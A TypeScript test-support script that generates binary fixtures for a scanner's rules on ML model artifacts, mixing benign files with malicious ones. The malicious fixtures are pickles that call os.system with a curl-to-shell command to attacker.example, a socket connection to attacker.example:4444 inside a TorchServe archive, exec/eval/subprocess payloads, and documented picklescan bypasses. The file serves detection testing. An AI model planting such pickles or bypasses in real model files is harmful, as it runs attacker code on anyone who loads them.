/**
 * The binary fixtures of rules/ml-serving/model-artifacts.fixtures/, each a few hundred bytes, made by the tests'
 * own writers. Binary files cannot carry `# ruleid:` comments: each has a `<file>.expect.yaml` beside it, written by
 * hand, that test/rules.test.ts reads. test/artifacts.test.ts checks that the committed files are what this makes.
 *
 *   node --import tsx test/support/artifact-fixtures.ts rules/ml-serving/model-artifacts.fixtures
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { callPickle, npy, PickleWriter, safetensors, torchStateDict, zipArchive } from "./pickle-writer.ts";

const torchZip = (extra: { name: string; data: Buffer }[] = []) =>
  zipArchive([
    { name: "archive/data.pkl", data: torchStateDict() },
    { name: "archive/data/0", data: Buffer.alloc(16) },
    { name: "archive/version", data: Buffer.from("3\n") },
    ...extra,
  ]);

/** An instance of module.name made with NEWOBJ and given an empty state (BUILD), as pickle writes most objects. */
const emptyObject = (module: string, name: string) =>
  new PickleWriter()
    .proto(4)
    .shortUnicode(module)
    .shortUnicode(name)
    .stackGlobal()
    .emptyTuple()
    .newObj()
    .emptyDict()
    .build()
    .stop()
    .bytes();

const keras = (layers: object[]) =>
  zipArchive([
    { name: "metadata.json", data: Buffer.from('{"keras_version": "3.6.0"}') },
    {
      name: "config.json",
      data: Buffer.from(JSON.stringify({ class_name: "Sequential", config: { name: "sequential", layers } })),
      method: "deflate",
    },
    { name: "model.weights.h5", data: Buffer.from("\x89HDF\r\n\x1a\n", "latin1") },
  ]);

export function artifactFixtures(): Record<string, Buffer> {
  return {
    // protocol 2, GLOBAL os system
    "models/reduce-os-system.pkl": callPickle("os", "system", "curl -s http://attacker.example/x | sh"),
    // protocol 0, INST: the text protocol still runs code
    "models/inst-protocol0.pkl": new PickleWriter().mark().string("id").inst("subprocess", "check_output").stop().bytes(),
    // picklescan bypass: STACK_GLOBAL's names come from the memo, stored long before
    "models/memoised-names.pkl": new PickleWriter()
      .proto(4)
      .memoisedGlobal("posix", "system")
      .shortUnicode("id")
      .tuple1()
      .reduce()
      .stop()
      .bytes(),
    // picklescan bypass: a harmless pickle, then a second one after its STOP
    "models/second-pickle.pkl": Buffer.concat([torchStateDict(), callPickle("builtins", "exec", "import os; os.system('id')", 4)]),
    // the module name is computed while loading (here: str.lower of a constant), so no list can match it
    "models/computed-module.pkl": new PickleWriter()
      .proto(4)
      .computedGlobal("OS", "system")
      .shortUnicode("id")
      .tuple1()
      .reduce()
      .stop()
      .bytes(),
    // a class of the project's own: imports outside the reviewed set
    "models/custom-model.pkl": emptyObject("trainer.models", "ChurnModel"),
    // a scikit-learn estimator: a reviewed class, rebuilt from its fitted attributes
    "models/estimator.joblib": emptyObject("sklearn.linear_model._base", "LinearRegression"),
    // a gradient-boosting model pickled whole: its library's model class, which rebuilds from its own saved bytes
    "models/booster.pkl": emptyObject("xgboost.core", "Booster"),
    // a pickled DataFrame: pandas' own containers
    "models/frame.pkl": emptyObject("pandas.core.frame", "DataFrame"),
    // torch.save's zip layout: only the storages' rebuild functions
    "models/state-dict.pt": torchZip(),
    // torch.save's layout with a second pickle entry beside data.pkl
    "models/extra-entry.pt": torchZip([{ name: "archive/extra.pkl", data: callPickle("runpy", "run_path", "/tmp/x.py") }]),
    // TorchServe archive: handler, manifest, and a compressed checkpoint whose data.pkl opens a socket
    "serving/model-store/classifier.mar": zipArchive([
      {
        name: "MAR-INF/MANIFEST.json",
        data: Buffer.from('{"model": {"modelName": "classifier", "serializedFile": "model.pt", "handler": "handler.py"}}'),
        method: "deflate",
      },
      { name: "handler.py", data: Buffer.from("from ts.torch_handler.base_handler import BaseHandler\n"), method: "deflate" },
      {
        name: "model.pt",
        data: zipArchive([
          { name: "archive/data.pkl", data: callPickle("socket", "create_connection", "attacker.example:4444") },
          { name: "archive/version", data: Buffer.from("3\n") },
        ]),
        method: "deflate",
      },
    ]),
    // NumPy object array: its body is a pickle
    "models/objects.npy": npy("|O", "(1,)", callPickle("os", "system", "id")),
    "models/floats.npy": npy("<f4", "(2,)", Buffer.alloc(8)),
    "models/arrays.npz": zipArchive([
      { name: "a.npy", data: npy("<f4", "(2,)", Buffer.alloc(8)) },
      { name: "b.npy", data: npy("|O", "(1,)", callPickle("builtins", "eval", "__import__('os').system('id')", 3)) },
    ]),
    "models/lambda.keras": keras([
      { class_name: "InputLayer", config: { name: "input", batch_shape: [null, 2] } },
      {
        class_name: "Lambda",
        config: {
          name: "backdoor",
          function: { class_name: "__lambda__", config: { code: "4wEAAAAAAAAA", defaults: null, closure: null } },
        },
      },
    ]),
    "models/dense.keras": keras([{ class_name: "Dense", config: { name: "dense", units: 2 } }]),
    "models/weights.safetensors": safetensors(),
    "models/large.bin": Buffer.from(
      "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
    ),
    // a malicious pickle that a test suite keeps on purpose: reported lower
    "tests/fixtures/malicious.pkl": callPickle("os", "system", "id"),
  };
}

export function writeArtifactFixtures(dir: string): void {
  for (const [rel, bytes] of Object.entries(artifactFixtures())) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), bytes);
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1])
  writeArtifactFixtures(process.argv[2] ?? "rules/ml-serving/model-artifacts.fixtures");
